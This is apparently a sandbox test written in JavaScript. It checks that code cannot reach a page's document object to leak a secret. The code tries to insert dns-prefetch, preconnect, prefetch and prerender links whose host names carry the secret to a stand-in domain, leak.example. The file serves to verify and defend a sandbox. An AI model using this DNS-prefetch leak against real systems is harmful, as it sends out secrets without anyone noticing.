// Hints to the browser to resolve and to connect.
// tries: put links with dns-prefetch, preconnect and prefetch into a document; the names would carry the secret to a name server
// must: find no document: no part of the frame that code can reach has one
// refusal: document is not defined|No page|no page
for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'prerender']) {
  const link = document.createElement('link');
  link.rel = rel;
  link.href = `http://secret-${rel}.leak.example/`;
  document.head.append(link);
}
console.log('escaped: there is a document');
